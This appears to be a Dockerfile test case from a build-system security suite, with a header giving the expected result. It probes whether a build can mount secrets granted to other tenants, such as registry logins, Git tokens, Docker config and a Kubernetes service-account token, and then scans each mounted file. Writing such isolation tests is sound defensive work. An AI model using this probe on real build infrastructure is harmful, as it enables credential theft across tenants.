# tries: secrets by ids that others might have been granted
# ends: Succeeded
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable
RUN --mount=type=secret,id=registry-login,target=/s/0 --mount=type=secret,id=token,target=/s/1 --mount=type=secret,id=GIT_AUTH_TOKEN,target=/s/2 --mount=type=secret,id=config.json,target=/s/3 --mount=type=secret,id=.dockerconfigjson,target=/s/4 --mount=type=secret,id=canary,target=/s/5 --mount=type=secret,id=/var/run/secrets/kubernetes.io/serviceaccount/token,target=/s/6 <<'ATTACK'
. /lib/hunt.sh
find /s -type f 2>/dev/null | while read -r file; do echo "ESCAPED secret $file"; attack scan "$file"; done
tried 7
ATTACK
